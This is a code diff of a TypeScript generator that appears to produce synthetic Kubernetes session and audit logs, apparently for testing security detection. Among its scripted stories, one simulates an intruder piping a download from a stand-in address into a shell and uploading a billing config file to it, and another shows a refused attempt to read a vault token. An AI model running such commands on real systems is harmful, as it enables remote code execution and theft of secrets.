@@ -1,12 +1,15 @@
-import { RULES } from './falco';
-import { type At, HOUR, MINUTE, SECOND } from './log';
+import { type At, HOUR, MINUTE, placeOf, SECOND } from './log';
 import type { Container } from './node';
 import { runSession, type SessionPlan, type Step } from './session';
 import type { TruthLogin, TruthSession } from './truth';
-import { placeOf } from './log';
 import type { World } from './world';
 
-const step = (wait: number, argv: readonly string[], lasts: number, more: Partial<Step> = {}): Step => ({ wait, argv, lasts, ...more });
+const step = (wait: number, argv: readonly string[], lasts: number, more: Partial<Step> = {}): Step => ({
+  wait,
+  argv,
+  lasts,
+  ...more,
+});
 
 /** An address outside every network of the sample's clusters. */
 export const UNKNOWN = '192.0.2.77';
@@ -20,8 +23,10 @@ export interface Told {
 /** The stories of the doc comment in generate.ts. In the small sample only those near the first. */
 export function tellStories(world: World): Told {
   const { size } = world.options;
-  const plans = [...download(world), ...(size === 'full' ? [bench(world), ...dayOfWork(world)] : [])];
-  const sessions = [...plans, ...(world.options.traps.sameCommandSameSecond ? sameSecond(world) : [])].map((plan) => runSession(world, plan));
+  const plans = [...download(world), ...(size === 'full' ? [bench(world), ...dayOfWork(world), kubectlRun(world)] : [])];
+  const sessions = [...plans, ...(world.options.traps.sameCommandSameSecond ? sameSecond(world) : [])].map((plan) =>
+    runSession(world, plan),
+  );
   return { sessions, logins: size === 'full' ? [hostCapture(world)] : [] };
 }
 
@@ -73,7 +78,9 @@ function download(world: World): SessionPlan[] {
       rest: 21.3,
       steps: [
         step(6.4, ['ls', '-la', '/var/log/app'], 0.006),
-        step(9.15, ['curl', '-s', 'http://10.96.20.15:8080/healthz'], 0.09, { acts: [{ connect: '10.96.20.15', port: 8080, after: 0.011 }] }),
+        step(9.15, ['curl', '-s', 'http://10.96.20.15:8080/healthz'], 0.09, {
+          acts: [{ connect: '10.96.20.15', port: 8080, after: 0.011 }],
+        }),
         step(3.2, ['grep', '-c', 'ERROR', '/var/log/app/current.log'], 0.03),
       ],
     },
@@ -87,9 +94,14 @@ function bench(world: World): SessionPlan {
   const random = world.random.fork('bench');
   const target = '10.96.12.40';
   const burst = (lasts: number, n: number) =>
-    Array.from({ length: n }, () => ({ connect: target, port: 80, after: random.between(0.05, lasts - 0.5) })).sort((a, b) => a.after - b.after);
+    Array.from({ length: n }, () => ({ connect: target, port: 80, after: random.between(0.05, lasts - 0.5) })).sort(
+      (a, b) => a.after - b.after,
+    );
   const ab = (minutes: number, n: number, c: number) =>
-    step(20, ['ab', '-n', String(n), '-c', String(c), `http://${target}/`], minutes * 60, { alert: 'newBinary', acts: burst(minutes * 60, n) });
+    step(20, ['ab', '-n', String(n), '-c', String(c), `http://${target}/`], minutes * 60, {
+      alert: 'newBinary',
+      acts: burst(minutes * 60, n),
+    });
   const at = 11 * HOUR + 57 * MINUTE + 20.118204 * SECOND;
   return {
     story: 'bench',
@@ -119,7 +131,7 @@ function bench(world: World): SessionPlan {
 
 /** The other stories of the full sample. */
 function dayOfWork(world: World): SessionPlan[] {
-  const at = (h: number, m: number, s: number): At => Math.round((h * HOUR) + m * MINUTE + s * SECOND);
+  const at = (h: number, m: number, s: number): At => Math.round(h * HOUR + m * MINUTE + s * SECOND);
   const oncall = world.human('oncall-2', 'oncall', '203.0.113.61');
   const first = world.human('oncall-1', 'oncall', '203.0.113.60');
   const old = world.human('mira', 'dev-shop', '203.0.113.24', 'kubectl/v1.31.0 (windows/amd64) kubernetes/9edcffc');
@@ -128,34 +140,248 @@ function dayOfWork(world: World): SessionPlan[] {
   const gateway = prod('payments', 'gateway');
   const base = { tty: false, transport: 'websocket', rest: 0.2, steps: [] } as const;
   const capture = (n: number) => ['tcpdump', '-ni', 'eth0', '-c', String(n), '-w', '/tmp/gw.pcap'];
-  const debug = world.newPod(prod('shop', 'cart'), 'net-debug', at(16, 20, 2), 'platform/netdebug:1.4.0', 'net-debug');
   return [
-    { ...base, story: 'tcpdump', user: oncall, container: gateway, command: ['sh'], tty: true, at: at(8, 31, 12.44), rest: 12, steps: [
-      step(9, capture(500), 48, { alert: 'packetSocket', acts: [{ write: '/tmp/gw.pcap', after: 1.2 }] }),
-      step(14, ['tcpdump', '-nr', '/tmp/gw.pcap'], 0.4, { alert: 'networkTool' }),
-    ] },
-    { ...base, story: 'tcpdump', user: oncall, container: gateway, command: capture(200), at: at(8, 40, 1.02), rest: 31, acts: [{ write: '/tmp/gw.pcap', after: 0.9 }] },
-    { ...base, story: 'kubectl cp', kind: 'cp', user: oncall, container: gateway, command: ['tar', 'cf', '-', '/tmp/gw.pcap'], at: at(8, 44, 30.7), rest: 0.4 },
-    { ...base, story: 'refused exec', user: runner, container: gateway, command: ['sh'], tty: true, at: at(14, 4, 6.220431), outcome: 'refused', transport: 'spdy' },
-    { ...base, story: 'refused exec', user: world.human('temp-contractor', 'contractors', '198.51.100.140'), container: prod('payments', 'vault-sync'), command: ['cat', '/etc/vault/token'], at: at(2, 13, 44.9), outcome: 'refused' },
-    { ...base, story: 'websocket always refused', user: old, container: prod('shop', 'cart', 1), command: ['sh'], tty: true, at: at(9, 2, 3.3), refusedFirst: true, transport: 'spdy', rest: 8, steps: [step(4, ['env'], 0.01), step(6, ['df', '-h'], 0.01)] },
-    { ...base, story: 'websocket always refused', user: old, container: prod('shop', 'checkout'), command: ['ls', '-la', '/srv'], at: at(13, 48, 40.1), refusedFirst: true, transport: 'spdy' },
-    { ...base, story: 'websocket always refused', user: old, container: prod('shop', 'cart'), command: ['sh', '-c', 'date; ls /srv'], at: at(17, 22, 11.8), refusedFirst: true, transport: 'spdy', steps: [step(0.004, ['date'], 0.002), step(0.002, ['ls', '/srv'], 0.003)] },
-    { ...base, story: 'command not found', user: first, container: prod('kube-system', 'coredns'), command: ['/bin/bash'], tty: true, at: at(10, 51, 20.6), outcome: 'no-process', rest: 0.21 },
-    { ...base, story: 'silence', user: first, container: prod('shop', 'checkout'), command: ['bash'], tty: true, at: at(9, 40, 17.2), rest: 90, steps: [step(20, ['cat', '/etc/hosts'], 0.004)] },
-    { ...base, story: 'wrapper', user: world.human('dba-rotation', 'dba', '203.0.113.88'), container: prod('billing', 'ledger'), command: ['sh', '-c', 'exec env STEP=7 /opt/ledger/migrate --to 41'], at: at(6, 15, 0.4), rest: 14, becomes: [['env', 'STEP=7', '/opt/ledger/migrate', '--to', '41'], ['/opt/ledger/migrate', '--to', '41']], acts: [{ connect: '10.244.3.20', port: 5432, after: 0.3, lasts: 13 }] },
-    { ...base, story: 'outlives', user: first, container: prod('billing', 'ledger', 1), command: ['bash'], tty: true, at: at(19, 5, 31.5), rest: 3.1, steps: [
-      step(7, ['nohup', '/tmp/sync-ledger', '--loop'], 2400, { background: true, becomes: [['/tmp/sync-ledger', '--loop']], acts: [1, 600, 1200, 1800].map((after) => ({ connect: UNKNOWN, port: 8443, after, lasts: 2, odd: true })) }),
-      step(5, ['ps', 'aux'], 0.02),
-    ] },
-    { ...base, story: 'unknown address', user: world.human('svc-report', 'dev-billing', '198.51.100.9'), container: prod('billing', 'billing-api', 1), command: ['sh', '-c', `wget -qO- http://${UNKNOWN}:8443/i | sh`], at: at(3, 27, 55.01), rest: 1.4, steps: [
-      step(0.01, ['wget', '-qO-', `http://${UNKNOWN}:8443/i`], 0.7, { acts: [{ connect: UNKNOWN, port: 8443, after: 0.02, lasts: 0.6, odd: true }] }),
-      step(0.005, ['sh'], 1.2, { children: [step(0.3, ['curl', '-s', '-T', '/etc/billing/app.yaml', `http://${UNKNOWN}:8443/u`], 0.5, { acts: [{ connect: UNKNOWN, port: 8443, after: 0.02, lasts: 0.4, odd: true }] })] }),
-    ] },
-    { ...base, story: 'port-forward', kind: 'port-forward', user: first, container: prod('monitoring', 'grafana'), command: [], at: at(7, 50, 9.9), rest: 1260 },
-    { ...base, story: 'kubectl run', kind: 'attach', user: old, container: debug, command: [], tty: true, at: at(16, 20, 4.1), rest: 300 },
-    { ...base, story: 'still open', user: world.human('noc-screen', 'oncall', '203.0.113.70'), container: prod('monitoring', 'prometheus'), command: ['sh'], tty: true, at: at(23, 41, 3.7), open: true, rest: 900, steps: [step(30, ['ls', '/prometheus'], 0.004)] },
+    {
+      ...base,
+      story: 'tcpdump',
+      user: oncall,
+      container: gateway,
+      command: ['sh'],
+      tty: true,
+      at: at(8, 31, 12.44),
+      rest: 12,
+      steps: [
+        step(9, capture(500), 48, { alert: 'packetSocket', acts: [{ write: '/tmp/gw.pcap', after: 1.2 }] }),
+        step(14, ['tcpdump', '-nr', '/tmp/gw.pcap'], 0.4, { alert: 'networkTool' }),
+      ],
+    },
+    {
+      ...base,
+      story: 'tcpdump',
+      user: oncall,
+      container: gateway,
+      command: capture(200),
+      at: at(8, 40, 1.02),
+      rest: 31,
+      acts: [{ write: '/tmp/gw.pcap', after: 0.9 }],
+    },
+    {
+      ...base,
+      story: 'kubectl cp',
+      kind: 'cp',
+      user: oncall,
+      container: gateway,
+      command: ['tar', 'cf', '-', '/tmp/gw.pcap'],
+      at: at(8, 44, 30.7),
+      rest: 0.4,
+    },
+    {
+      ...base,
+      story: 'refused exec',
+      user: runner,
+      container: gateway,
+      command: ['sh'],
+      tty: true,
+      at: at(14, 4, 6.220431),
+      outcome: 'refused',
+      transport: 'spdy',
+    },
+    {
+      ...base,
+      story: 'refused exec',
+      user: world.human('temp-contractor', 'contractors', '198.51.100.140'),
+      container: prod('payments', 'vault-sync'),
+      command: ['cat', '/etc/vault/token'],
+      at: at(2, 13, 44.9),
+      outcome: 'refused',
+    },
+    {
+      ...base,
+      story: 'websocket always refused',
+      user: old,
+      container: prod('shop', 'cart', 1),
+      command: ['sh'],
+      tty: true,
+      at: at(9, 2, 3.3),
+      refusedFirst: true,
+      transport: 'spdy',
+      rest: 8,
+      steps: [step(4, ['env'], 0.01), step(6, ['df', '-h'], 0.01)],
+    },
+    {
+      ...base,
+      story: 'websocket always refused',
+      user: old,
+      container: prod('shop', 'checkout'),
+      command: ['ls', '-la', '/srv'],
+      at: at(13, 48, 40.1),
+      refusedFirst: true,
+      transport: 'spdy',
+    },
+    {
+      ...base,
+      story: 'websocket always refused',
+      user: old,
+      container: prod('shop', 'cart'),
+      command: ['sh', '-c', 'date; ls /srv'],
+      at: at(17, 22, 11.8),
+      refusedFirst: true,
+      transport: 'spdy',
+      steps: [step(0.004, ['date'], 0.002), step(0.002, ['ls', '/srv'], 0.003)],
+    },
+    {
+      ...base,
+      story: 'command not found',
+      user: first,
+      container: prod('kube-system', 'coredns'),
+      command: ['/bin/bash'],
+      tty: true,
+      at: at(10, 51, 20.6),
+      outcome: 'no-process',
+      rest: 0.21,
+    },
+    {
+      ...base,
+      story: 'silence',
+      user: first,
+      container: prod('shop', 'checkout'),
+      command: ['bash'],
+      tty: true,
+      at: at(9, 40, 17.2),
+      rest: 90,
+      steps: [step(20, ['cat', '/etc/hosts'], 0.004)],
+    },
+    {
+      ...base,
+      story: 'wrapper',
+      user: world.human('dba-rotation', 'dba', '203.0.113.88'),
+      container: prod('billing', 'ledger'),
+      command: ['sh', '-c', 'exec env STEP=7 /opt/ledger/migrate --to 41'],
+      at: at(6, 15, 0.4),
+      rest: 14,
+      becomes: [
+        ['env', 'STEP=7', '/opt/ledger/migrate', '--to', '41'],
+        ['/opt/ledger/migrate', '--to', '41'],
+      ],
+      acts: [{ connect: '10.244.3.20', port: 5432, after: 0.3, lasts: 13 }],
+    },
+    {
+      ...base,
+      story: 'outlives',
+      user: first,
+      container: prod('billing', 'ledger', 1),
+      command: ['bash'],
+      tty: true,
+      at: at(19, 5, 31.5),
+      rest: 3.1,
+      steps: [
+        step(7, ['nohup', '/tmp/sync-ledger', '--loop'], 2400, {
+          background: true,
+          becomes: [['/tmp/sync-ledger', '--loop']],
+          acts: [1, 600, 1200, 1800].map((after) => ({ connect: UNKNOWN, port: 8443, after, lasts: 2, odd: true })),
+        }),
+        step(5, ['ps', 'aux'], 0.02),
+      ],
+    },
+    {
+      ...base,
+      story: 'unknown address',
+      user: world.human('svc-report', 'dev-billing', '198.51.100.9'),
+      container: prod('billing', 'billing-api', 1),
+      command: ['sh', '-c', `wget -qO- http://${UNKNOWN}:8443/i | sh`],
+      at: at(3, 27, 55.01),
+      rest: 1.4,
+      steps: [
+        step(0.01, ['wget', '-qO-', `http://${UNKNOWN}:8443/i`], 0.7, {
+          acts: [{ connect: UNKNOWN, port: 8443, after: 0.02, lasts: 0.6, odd: true }],
+        }),
+        step(0.005, ['sh'], 1.2, {
+          children: [
+            step(0.3, ['curl', '-s', '-T', '/etc/billing/app.yaml', `http://${UNKNOWN}:8443/u`], 0.5, {
+              acts: [{ connect: UNKNOWN, port: 8443, after: 0.02, lasts: 0.4, odd: true }],
+            }),
+          ],
+        }),
+      ],
+    },
+    {
+      ...base,
+      story: 'port-forward',
+      kind: 'port-forward',
+      user: first,
+      container: prod('monitoring', 'grafana'),
+      command: [],
+      at: at(7, 50, 9.9),
+      rest: 1260,
+    },
+    {
+      ...base,
+      story: 'still open',
+      user: world.human('noc-screen', 'oncall', '203.0.113.70'),
+      container: prod('monitoring', 'prometheus'),
+      command: ['sh'],
+      tty: true,
+      at: at(23, 41, 3.7),
+      open: true,
+      rest: 900,
+      steps: [step(30, ['ls', '/prometheus'], 0.004)],
+    },
   ];
+}
+
+/** kubectl run -it: the pod is created and its entry point joined; no process of its own. */
+function kubectlRun(world: World): SessionPlan {
+  const at = 16 * HOUR + 20 * MINUTE;
+  const user = world.human('mira', 'dev-shop', '203.0.113.24', 'kubectl/v1.31.0 (windows/amd64) kubernetes/9edcffc');
+  const image = 'platform/netdebug:1.4.0';
+  const container = world.newPod(world.container('prod-eu', 'shop', 'cart'), 'net-debug', at + 2 * SECOND, image);
+  const { namespace, node, pod } = container;
+  const life = world.life(container, at + 3 * SECOND);
+  const shim = node.spawn({
+    at: at + SECOND,
+    argv: ['/usr/bin/containerd-shim-runc-v2', '-namespace', 'k8s.io', '-id', life.id],
+    silent: true,
+  });
+  const init = node.spawn({ at: at + 2 * SECOND, argv: ['sh'], parent: shim, container, life, inInitTree: true });
+  for (const [n, argv] of [
+    ['nslookup', 'cart.shop.svc'],
+    ['curl', '-s', 'http://10.96.12.40/'],
+  ].entries()) {
+    const process = node.spawn({ at: at + (12 + n * 9) * SECOND, argv, parent: init, container, life, inInitTree: true });
+    if (argv[0] === 'curl') node.connect(process, process.start + 9e6, '10.96.12.40', 80);
+    node.exit(process, process.start + 60e6);
+  }
+  node.exit(init, at + 300 * SECOND);
+  shim.until = init.until;
+  const spec = {
+    containers: [{ name: pod, image, args: ['sh'], stdin: true, stdinOnce: true, tty: true }],
+    restartPolicy: 'Never',
+  };
+  const request = { kind: 'Pod', apiVersion: 'v1', metadata: { name: pod, namespace, labels: { run: pod } }, spec };
+  const uri = `/api/v1/namespaces/${namespace}/pods`;
+  const server = world.serverOf('prod-eu', world.random.fork('kubectl-run'));
+  const created = { user, resource: 'pods', namespace, name: pod };
+  server.call({
+    ...created,
+    at,
+    verb: 'create',
+    uri: `${uri}?fieldManager=kubectl-run`,
+    code: 201,
+    level: 'RequestResponse',
+    request,
+  });
+  server.call({ ...created, at: at + 0.2 * SECOND, verb: 'get', uri: `${uri}/${pod}`, code: 200 });
+  const attach = {
+    story: 'kubectl run',
+    kind: 'attach',
+    user,
+    container,
+    command: [],
+    tty: true,
+    transport: 'websocket',
+    steps: [],
+  } as const;
+  return { ...attach, joins: init, at: at + 2.4 * SECOND, rest: 297.6 };
 }
 
 /** Two people, one command, one container, one second. */
@@ -181,16 +407,28 @@ function hostCapture(world: World): () => TruthLogin {
   const node = world.nodes[2]!;
   const at = 18 * HOUR + 11 * MINUTE;
   const sshd = node.spawn({ at, argv: ['sshd', '-D', '-R'] });
-  const shell = node.spawn({ at: at + 0.4 * SECOND, argv: ['bash'], parent: sshd, cwd: '/home/ops', uid: 1001, auid: 1001, tty: 34816 });
-  const dump = node.spawn({ at: at + 22 * SECOND, argv: ['tcpdump', '-i', 'any', '-c', '2000', 'port', '5432'], parent: shell, cwd: '/home/ops', auid: 1001, tty: 34816 });
+  const shell = node.spawn({ at: at + 0.4 * SECOND, argv: ['bash'], parent: sshd, cwd: '/home/ops', uid: 1001, auid: 1001 });
+  const dump = node.spawn({
+    at: at + 22 * SECOND,
+    argv: ['tcpdump', '-i', 'any', '-c', '2000', 'port', '5432'],
+    parent: shell,
+    cwd: '/home/ops',
+    auid: 1001,
+  });
   node.exit(dump, at + 81 * SECOND);
   node.exit(shell, at + 95 * SECOND);
   node.exit(sshd, at + 95.1 * SECOND);
   const processes = [sshd, shell, dump];
   return () => ({
     node: node.name,
-    processes: processes.map((p) => ({ execId: p.execId, parentExecId: p.parent?.execId ?? '', node: node.name, pid: p.pid, argv: p.argv, exec: placeOf(p.exec), exit: placeOf(p.exit) })),
+    processes: processes.map((p) => ({
+      execId: p.execId,
+      parentExecId: p.parent?.execId ?? '',
+      node: node.name,
+      pid: p.pid,
+      argv: p.argv,
+      exec: placeOf(p.exec),
+      exit: placeOf(p.exit),
+    })),
   });
 }
-
-export { RULES };
